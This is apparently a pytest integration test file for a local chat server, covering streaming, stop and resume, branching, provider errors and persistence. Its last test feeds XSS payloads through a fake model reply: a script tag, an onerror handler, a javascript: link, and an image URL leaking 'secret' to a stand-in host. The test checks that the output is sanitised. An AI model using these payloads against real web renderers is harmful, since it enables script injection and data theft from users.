"""Streamed chat through the real server against fake providers on 127.0.0.1."""

from __future__ import annotations

import re
import sqlite3
import threading
import time

import pytest
import requests

from .fake_provider import Reply
from .support import iter_events, open_stream, provider_settings, read_events, texts, wait_for

MODEL = "ollama/llama3.2:3b"


pytestmark = pytest.mark.fake_models(
    "llama3.2:3b", "qwen3:8b",
    capabilities={"qwen3:8b": ["completion", "thinking"]},
    context_lengths={"llama3.2:3b": 131072},
)


@pytest.fixture
def default_model():
    return MODEL


@pytest.fixture
def app(start_server, both_kinds_settings):
    return start_server(both_kinds_settings)


# --- the happy path ---------------------------------------------------------------------------


def test_send_streams_and_saves_the_reply(app, fake):
    fake.script(Reply(text="Hello **there**, friend.", reasoning="Greeting back."))
    session = app.new_session()
    events = app.chat(session["id"], {"message": "Hi! How are you today?"})
    kinds = [event for event, _ in events]
    assert kinds[0] == "start" and kinds[-1] == "done"
    assert "render" in kinds
    ids = [data["_id"] for _, data in events]
    assert ids == sorted(ids) and len(set(ids)) == len(ids)
    start = events[0][1]
    assert start["user_message"]["content"] == "Hi! How are you today?"
    assert start["assistant_message"]["status"] == "streaming"
    assert texts(events) == "Hello **there**, friend."
    assert texts(events, "reasoning") == "Greeting back."
    final = events[-1][1]["message"]
    assert final["status"] == "complete"
    assert final["content"] == "Hello **there**, friend."
    assert "<strong>there</strong>" in final["html"]
    assert final["model"] == MODEL
    assert final["usage"]["completion_tokens"] > 0

    listed = app.get(f"/api/sessions/{session['id']}/messages").json()["messages"]
    assert [m["role"] for m in listed] == ["user", "assistant"]
    assert listed[1]["html"] == final["html"]
    assert listed[1]["reasoning"] == "Greeting back."
    updated = app.get(f"/api/sessions/{session['id']}").json()
    assert updated["title"] == "Hi! How are you today?"
    assert updated["model"] == MODEL


def test_context_carries_history_role_and_system_prompt(app, fake):
    role = app.post("/api/roles", {"name": "Pirate", "instructions": "Talk like a pirate."}).json()
    session = app.new_session(role_id=role["id"], system_prompt="Keep it short.")
    fake.script(Reply(text="Arr, hello."), Reply(text="Aye."))
    app.chat(session["id"], {"message": "Hello"})
    app.chat(session["id"], {"message": "And again"})
    body = fake.chat_requests()[-1].body
    assert body["model"] == "llama3.2:3b"
    assert body["messages"] == [
        {"role": "system", "content": "Talk like a pirate.\n\nKeep it short."},
        {"role": "user", "content": "Hello"},
        {"role": "assistant", "content": "Arr, hello."},
        {"role": "user", "content": "And again"},
    ]
    assert "think" not in body


def test_openai_compatible_provider_and_model_switch(app, fake):
    session = app.new_session()
    fake.script(Reply(text="From compat."))
    events = app.chat(session["id"], {"message": "hi", "model": "compat/qwen3:8b"})
    assert texts(events) == "From compat."
    path, body, _ = fake.chat_requests()[-1]
    assert path.startswith("/v1/chat/completions")
    assert body["model"] == "qwen3:8b" and body["stream"] is True
    assert app.get(f"/api/sessions/{session['id']}").json()["model"] == "compat/qwen3:8b"


def test_think_is_sent_only_when_asked(app, fake):
    session = app.new_session()
    app.chat(session["id"], {"message": "hi", "model": "ollama/qwen3:8b", "think": True})
    assert fake.chat_requests()[-1].body["think"] is True


def test_models_lists_providers_and_reports_one_that_is_down(start_server, fake):
    app = start_server(
        provider_settings(
            ("ollama", "ollama", fake.ollama_url),
            ("gone", "openai", "http://127.0.0.1:9/v1"),
        )
    )
    body = app.get("/api/models").json()
    ids = [m["id"] for m in body["models"]]
    assert "ollama/llama3.2:3b" in ids and "ollama/qwen3:8b" in ids
    qwen = next(m for m in body["models"] if m["id"] == "ollama/qwen3:8b")
    assert "thinking" in qwen["capabilities"]
    llama = next(m for m in body["models"] if m["id"] == "ollama/llama3.2:3b")
    assert llama["context_length"] == 131072
    statuses = {p["id"]: p for p in body["providers"]}
    assert statuses["ollama"]["status"] == "ok"
    assert statuses["gone"]["status"] == "unreachable"
    assert statuses["gone"]["message"]


# --- stop, re-attach, disconnect --------------------------------------------------------------


def test_stop_closes_upstream_and_keeps_the_partial_reply(app, fake):
    fake.script(Reply(text="one two three four five", mode="stall", after=2))
    session = app.new_session()
    response = open_stream(app, session["id"], {"message": "count"})
    stream = iter_events(response)
    start = next(stream)[1]
    message_id = start["assistant_message"]["id"]
    wait_for(lambda: app.get(f"/api/messages/{message_id}").json()["content"] == "one two")
    began = time.monotonic()
    stopped = app.post(f"/api/messages/{message_id}/stop").json()["message"]
    assert time.monotonic() - began < 0.5
    assert stopped["status"] == "stopped"
    assert stopped["content"] == "one two"
    assert fake.disconnected.wait(1), "the upstream request was not closed"
    rest = list(stream)
    assert rest[-1][0] == "done" and rest[-1][1]["message"]["status"] == "stopped"
    again = app.post(f"/api/messages/{message_id}/stop")
    assert again.status_code == 200 and again.json()["message"]["status"] == "stopped"


def test_reattach_after_a_reload_loses_and_repeats_nothing(app, fake):
    fake.script(Reply(text="alpha beta gamma delta epsilon zeta", mode="stall", after=3))
    session = app.new_session()
    response = open_stream(app, session["id"], {"message": "go"})
    stream = iter_events(response)
    seen = []
    for event, data in stream:
        seen.append((event, data))
        if texts(seen) == "alpha beta gamma":
            break
    response.close()  # the page reloads
    message_id = seen[0][1]["assistant_message"]["id"]
    live = app.get(f"/api/messages/{message_id}").json()
    assert live["status"] == "streaming" and live["content"] == "alpha beta gamma"
    last_id = seen[-1][1]["_id"]
    fake.release()
    resumed = read_events(app.get(f"/api/messages/{message_id}/events?after={last_id}",
                               stream=True))
    assert texts(seen) + texts(resumed) == "alpha beta gamma delta epsilon zeta"
    assert resumed[-1][0] == "done"
    assert all(data["_id"] > last_id for _, data in resumed)
    by_header = read_events(
        app.get(f"/api/messages/{message_id}/events", headers={"Last-Event-ID": str(last_id)},
                stream=True)
    )
    assert texts(by_header) == texts(resumed)


def test_reattach_from_a_message_snapshot(app, fake):
    fake.script(Reply(text="one two three four", mode="stall", after=2))
    session = app.new_session()
    response = open_stream(app, session["id"], {"message": "go"})
    message_id = next(iter_events(response))[1]["assistant_message"]["id"]
    wait_for(lambda: app.get(f"/api/messages/{message_id}").json()["content"] == "one two")
    response.close()
    listed = app.get(f"/api/sessions/{session['id']}/messages").json()["messages"]
    snapshot = listed[-1]
    assert snapshot["status"] == "streaming" and "stream_seq" in snapshot
    fake.release()
    rest = read_events(
        app.get(f"/api/messages/{message_id}/events?after={snapshot['stream_seq']}", stream=True)
    )
    assert snapshot["content"] + texts(rest) == "one two three four"
    renders = [data for event, data in rest if event == "render"]
    assert renders and renders[0]["start"] == 0


def test_a_client_going_away_does_not_stop_the_reply(app, fake):
    fake.script(Reply(text="keeps going after the client left", mode="stall", after=1))
    session = app.new_session()
    response = open_stream(app, session["id"], {"message": "go"})
    message_id = next(iter_events(response))[1]["assistant_message"]["id"]
    response.close()
    fake.release()
    final = wait_for(
        lambda: (m := app.get(f"/api/messages/{message_id}").json())["status"] == "complete"
        and m
    )
    assert final["content"] == "keeps going after the client left"
    replay = read_events(app.get(f"/api/messages/{message_id}/events", stream=True))
    assert texts(replay) == final["content"] and replay[-1][0] == "done"


def test_finished_reply_replays_from_the_database(app, fake, start_server):
    fake.script(Reply(text="stored answer", reasoning="why"))
    session = app.new_session()
    events = app.chat(session["id"], {"message": "q"})
    message_id = events[-1][1]["message"]["id"]
    app.runtime.engine._generations.clear()  # as after a restart: nothing in memory
    replay = read_events(app.get(f"/api/messages/{message_id}/events", stream=True))
    assert [e for e, _ in replay] == ["start", "reasoning", "delta", "done"]
    assert texts(replay) == "stored answer" and texts(replay, "reasoning") == "why"
    assert read_events(app.get(f"/api/messages/{message_id}/events?after=4", stream=True)) == []


# --- branches ---------------------------------------------------------------------------------


def test_regenerate_makes_a_sibling_and_branches_can_be_switched(app, fake):
    fake.script(Reply(text="First answer."), Reply(text="Second answer."))
    session = app.new_session()
    first = app.chat(session["id"], {"message": "Question"})[-1][1]["message"]
    response = app.post(f"/api/messages/{first['id']}/regenerate", {"model": "compat/qwen3:8b"},
                        stream=True)
    assert response.status_code == 200
    second = read_events(response)[-1][1]["message"]
    assert second["parent_id"] == first["parent_id"] and second["model"] == "compat/qwen3:8b"
    assert fake.chat_requests()[-1].body["messages"] == [{"role": "user", "content": "Question"}]

    siblings = app.get(f"/api/messages/{second['id']}/siblings").json()["messages"]
    assert [m["content"] for m in siblings] == ["First answer.", "Second answer."]
    current = app.get(f"/api/sessions/{session['id']}/messages").json()["messages"]
    assert current[-1]["id"] == second["id"]
    assert current[-1]["sibling_ids"] == [first["id"], second["id"]]
    assert current[-1]["sibling_index"] == 1

    switched = app.post(f"/api/messages/{first['id']}/select").json()
    assert switched["messages"][-1]["id"] == first["id"]
    assert switched["session"]["leaf_id"] == first["id"]


def test_edit_and_resend_keeps_the_old_branch(app, fake):
    fake.script(Reply(text="A1"), Reply(text="A2"), Reply(text="A2 edited"))
    session = app.new_session()
    app.chat(session["id"], {"message": "Q1"})
    app.chat(session["id"], {"message": "Q2"})
    branch = app.get(f"/api/sessions/{session['id']}/messages").json()["messages"]
    q2 = branch[2]
    events = app.chat(session["id"], {"message": "Q2, better", "parent_id": q2["parent_id"]})
    assert texts(events) == "A2 edited"
    sent = fake.chat_requests()[-1].body["messages"]
    assert [m["content"] for m in sent] == ["Q1", "A1", "Q2, better"]
    now = app.get(f"/api/sessions/{session['id']}/messages").json()["messages"]
    assert [m["content"] for m in now] == ["Q1", "A1", "Q2, better", "A2 edited"]
    assert now[2]["sibling_ids"] == [q2["id"], now[2]["id"]]
    old = app.post(f"/api/messages/{q2['id']}/select").json()["messages"]
    assert [m["content"] for m in old] == ["Q1", "A1", "Q2", "A2"]


def test_long_chats_page_from_the_newest(app, fake):
    session = app.new_session()
    for i in range(6):
        fake.script(Reply(text=f"A{i}"))
        app.chat(session["id"], {"message": f"Q{i}"})
    page = app.get(f"/api/sessions/{session['id']}/messages?limit=4").json()
    assert [m["content"] for m in page["messages"]] == ["Q4", "A4", "Q5", "A5"]
    assert page["has_more"] is True
    older = app.get(
        f"/api/sessions/{session['id']}/messages?limit=10&before={page['messages'][0]['id']}"
    ).json()
    assert len(older["messages"]) == 8 and older["has_more"] is False


# --- provider failures ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("reply", "status", "code"),
    [
        (Reply(status=404), 404, "model_not_found"),
        (Reply(status=401), 502, "provider_auth_failed"),
        (Reply(status=400, body={"error": "invalid options"}), 400, "provider_bad_request"),
    ],
)
def test_errors_before_streaming_are_http_errors(app, fake, reply, status, code):
    fake.script(reply)
    session = app.new_session()
    response = app.post(f"/api/sessions/{session['id']}/chat/stream", {"message": "hello"})
    assert response.status_code == status, response.text
    error = response.json()["error"]
    assert error["code"] == code and error["message"]
    messages = app.get(f"/api/sessions/{session['id']}/messages").json()["messages"]
    assert messages[0]["content"] == "hello"
    assert messages[1]["status"] == "error" and messages[1]["error"]["code"] == code


def test_provider_down_is_a_502_with_a_sentence(start_server):
    app = start_server(provider_settings(("ollama", "ollama", "http://127.0.0.1:9"),
                                         default_model="ollama/llama3.2"))
    session = app.new_session()
    response = app.post(f"/api/sessions/{session['id']}/chat/stream", {"message": "hello"})
    assert response.status_code == 502
    error = response.json()["error"]
    assert error["code"] == "provider_unavailable"
    assert "Ollama" in error["message"] and "ollama serve" in error["message"]
    kept = app.get(f"/api/sessions/{session['id']}/messages").json()["messages"]
    assert kept[0]["content"] == "hello"


def test_rate_limit_is_retried_before_the_first_token(app, fake):
    fake.script(Reply(status=429, headers={"Retry-After": "0"}), Reply(text="After the wait."))
    session = app.new_session()
    events = app.chat(session["id"], {"message": "hi"})
    assert texts(events) == "After the wait."
    assert len(fake.chat_requests()) == 2


@pytest.mark.parametrize("mode", ["error_midstream", "drop"])
def test_failures_after_text_keep_the_partial_reply(app, fake, mode):
    fake.script(Reply(text="some words then trouble", mode=mode, after=2))
    session = app.new_session()
    events = app.chat(session["id"], {"message": "go"})
    assert events[-1][0] == "error"
    error = events[-1][1]
    assert error["message"] and error["message_id"]
    saved = app.get(f"/api/messages/{error['message_id']}").json()
    assert saved["status"] == "error" and saved["content"] == "some words"
    assert saved["error"]["code"] == error["code"]
    assert len(fake.chat_requests()) == 1, "a reply that had begun must not be retried"


def test_malformed_line_never_crashes_the_server(app, fake):
    fake.script(Reply(text="good words then junk", mode="malformed", after=2))
    session = app.new_session()
    events = app.chat(session["id"], {"message": "go"})
    assert events[-1][0] in ("done", "error")
    message_id = events[0][1]["assistant_message"]["id"]
    saved = app.get(f"/api/messages/{message_id}").json()
    assert saved["content"].startswith("good words")
    assert saved["status"] in ("complete", "error")
    assert app.get("/api/health").status_code == 200


# --- load, persistence -----------------------------------------------------------------------


def test_eight_concurrent_streams(app, fake):
    sessions = [app.new_session() for _ in range(8)]
    fake.script(*[Reply(text=f"reply number {i} " * 20, delay=0.002) for i in range(8)])
    results: dict[int, list] = {}

    def run(index, session):
        http = requests.Session()
        http.headers.update(app.http.headers)
        response = http.post(app.url(f"/api/sessions/{session['id']}/chat/stream"),
                             json={"message": f"m{index}"}, stream=True, timeout=30)
        results[index] = read_events(response)
        http.close()

    threads = [threading.Thread(target=run, args=(i, s)) for i, s in enumerate(sessions)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert len(results) == 8
    replies = sorted(texts(events) for events in results.values())
    assert replies == sorted(f"reply number {i} " * 20 for i in range(8))
    for events in results.values():
        assert events[-1][0] == "done"


def test_checkpoints_reach_the_database_while_streaming(app, fake):
    fake.script(Reply(text="tick " * 40, delay=0.02))
    session = app.new_session()
    response = open_stream(app, session["id"], {"message": "go"})
    stream = iter_events(response)
    message_id = next(stream)[1]["assistant_message"]["id"]
    database = app.data_dir / "openchat.sqlite3"

    def saved_content():
        with sqlite3.connect(database) as db:
            row = db.execute("select content, status from messages where id = ?",
                             (message_id,)).fetchone()
        db.close()
        return row[0] if row and row[1] == "streaming" and row[0] else None

    assert wait_for(saved_content, timeout=3).startswith("tick")
    list(stream)


def test_shutdown_saves_a_running_reply_as_interrupted(start_server, fake, tmp_path):
    settings = provider_settings(("ollama", "ollama", fake.ollama_url), default_model=MODEL)
    app = start_server(settings)
    fake.script(Reply(text="partial answer here", mode="stall", after=2))
    session = app.new_session()
    response = open_stream(app, session["id"], {"message": "go"})
    message_id = next(iter_events(response))[1]["assistant_message"]["id"]
    wait_for(lambda: app.get(f"/api/messages/{message_id}").json()["content"] == "partial answer")
    response.close()
    began = time.monotonic()
    app.runtime.shutdown()
    assert time.monotonic() - began < 2
    again = start_server(settings, data_dir=app.data_dir)
    saved = again.get(f"/api/messages/{message_id}").json()
    assert saved["status"] == "interrupted" and saved["content"] == "partial answer"


def test_server_errors_are_retried_then_reported(app, fake):
    fake.script(Reply(status=503), Reply(status=503), Reply(status=500))
    session = app.new_session()
    response = app.post(f"/api/sessions/{session['id']}/chat/stream", {"message": "hello"})
    assert response.status_code == 502
    assert response.json()["error"]["code"] == "provider_unavailable"
    assert len(fake.chat_requests()) == 3


def test_a_hostile_reply_stays_inert(app, fake):
    hostile = (
        '<script>alert(1)</script> <img src=x onerror="alert(2)"> '
        "[click](javascript:alert(3)) ![leak](https://evil.example/?q=secret)"
    )
    fake.script(Reply(text=hostile, chunks=[hostile[i:i + 7] for i in range(0, len(hostile), 7)]))
    session = app.new_session()
    events = app.chat(session["id"], {"message": "hi"})
    rendered = [data["tail"] + "".join(data["blocks"]) for e, data in events if e == "render"]
    final = events[-1][1]["message"]["html"]
    for html in [*rendered, final]:
        assert "<script" not in html and "<img" not in html
        assert not re.search(r"<[^>]*\son\w+=", html), html  # no event-handler attribute
        assert 'href="javascript' not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in final
    assert "[click](javascript:alert(3))" in final  # shown as text, not a link
    assert '<a class="image-link" href="https://evil.example/?q=secret"' in final
